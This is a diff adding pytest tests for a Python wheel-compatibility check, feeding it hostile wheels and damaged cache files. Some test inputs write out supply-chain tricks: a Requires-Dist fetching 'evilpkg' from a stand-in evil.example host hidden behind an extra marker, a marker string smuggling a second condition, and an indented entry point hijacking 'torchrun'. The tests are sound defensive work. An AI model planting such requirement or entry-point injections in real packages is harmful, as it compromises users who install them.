@@ -2,12 +2,14 @@
 # SPDX-License-Identifier: BSD-3-Clause
 
 """Hostile and careless input to the native interface check (``scripts/check_native_interfaces.py``): one wheel
-given twice, a combined wheel hiding a second copy of a file, a removed shared object seen by layer 1 alone,
-non-UTF-8 metadata and reviewed-changes files, a missing interpreter. Every refusal is one line with the documented
-exit status, and the check's cache (``$CATCH_CACHE``) is left as it was."""
+given twice, a combined wheel hiding a second copy of a file, renamed to another Python, or carrying a requirement or
+entry point that reaches plain ``torch`` installs, a removed shared object seen by layer 1 alone, non-UTF-8 metadata
+and reviewed-changes files, a missing interpreter, a damaged probe cache. Every refusal is one line with the
+documented exit status, and the check's cache (``$CATCH_CACHE``) is left as it was."""
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -225,3 +227,61 @@ def test_probe_that_cannot_start_is_an_error_finding(wheels: tuple[Path, Path, P
     assert report.exit_code == ERROR
     assert [f.code for f in report.layers[0].findings] == ["probe-failed"]
     assert "could not start" in report.layers[0].findings[0].message
+
+
+# --- layer 0 judges requirements and entry points as the build does ---
+
+@pytest.mark.parametrize("requirement", ['evilpkg @ https://evil.example/evilpkg-1-py3-none-any.whl;extra=="x"',
+                                         "evilpkg ; python_version >= \"3\" or platform_release == ';extra == \"x'"])
+def test_requirement_disguised_as_an_extra_is_a_metadata_change(wheels: tuple[Path, Path, Path], cache: Path,
+                                                                tmp_path: Path, requirement: str) -> None:
+    with zipfile.ZipFile(wheels[1]) as zf:
+        meta = zf.read(f"{DI}/METADATA").decode()
+    head, sep, body = meta.partition("\n\n")
+    meta = f"{head}\nProvides-Extra: x\nRequires-Dist: {requirement}{sep}{body}"
+    combined = replaced(wheels[1], tmp_path / "req" / wheels[1].name, {f"{DI}/METADATA": meta.encode()})
+    report = run_check(wheels[0], combined, (0,))
+    assert [f.code for f in report.layers[0].findings] == ["metadata-changed"], report.to_json()
+    assert report.exit_code == INCOMPATIBLE
+
+
+def test_entry_point_hidden_in_an_indented_line_is_incompatible(wheels: tuple[Path, Path, Path], cache: Path,
+                                                                tmp_path: Path) -> None:
+    with zipfile.ZipFile(wheels[1]) as zf:
+        eps = zf.read(f"{DI}/entry_points.txt").decode()
+    hidden = eps.replace("mlu = torch_mlu:_autoload\n",
+                         "mlu = torch_mlu:_autoload\n  [console_scripts]\n  torchrun = torch_mlu:_autoload\n")
+    assert hidden != eps
+    combined = replaced(wheels[1], tmp_path / "eps" / wheels[1].name, {f"{DI}/entry_points.txt": hidden.encode()})
+    report = run_check(wheels[0], combined, (0,))
+    assert [f.code for f in report.layers[0].findings] == ["entry-points-unreadable"], report.to_json()
+    assert report.exit_code == INCOMPATIBLE and "indented line" in report.layers[0].findings[0].message
+
+
+# --- the combined wheel is what its name says ---
+
+def test_combined_wheel_renamed_to_another_python_is_refused(wheels: tuple[Path, Path, Path], cache: Path,
+                                                             tmp_path: Path) -> None:
+    renamed = tmp_path / "renamed" / wheels[1].name.replace("cp311-cp311", "cp312-cp312")
+    renamed.parent.mkdir()
+    renamed.write_bytes(wheels[1].read_bytes())
+    before = tree_checksum(cache)
+    proc = check_cli(wheels[0], renamed, "--layers", "0", cache=cache)
+    assert f"{renamed}!{DI}/WHEEL: " in one_line_error(proc, "cp311-cp311", code=1)
+    assert tree_checksum(cache) == before
+
+
+# --- a damaged probe cache is probed again, never trusted or fatal ---
+
+@pytest.mark.parametrize("damage", ["[]\n", "{not json", '{"torch_file": 3}\n', "\xff"])
+def test_damaged_probe_cache_is_probed_again(wheels: tuple[Path, Path, Path], cache: Path,
+                                             caplog: pytest.LogCaptureFixture, damage: str) -> None:
+    assert run_check(wheels[0], wheels[1], (1,)).exit_code == 0
+    stored = list((cache / "probes").glob("*.json"))
+    assert len(stored) == 1
+    stored[0].write_text(damage, encoding="latin-1")
+    report = run_check(wheels[0], wheels[1], (1,))
+    assert report.exit_code == 0, report.to_json()
+    assert "probing again" in caplog.text
+    assert isinstance(json.loads(stored[0].read_text()), dict)
+    assert [p.name for p in (cache / "probes").iterdir()] == [stored[0].name]  # no staging file left
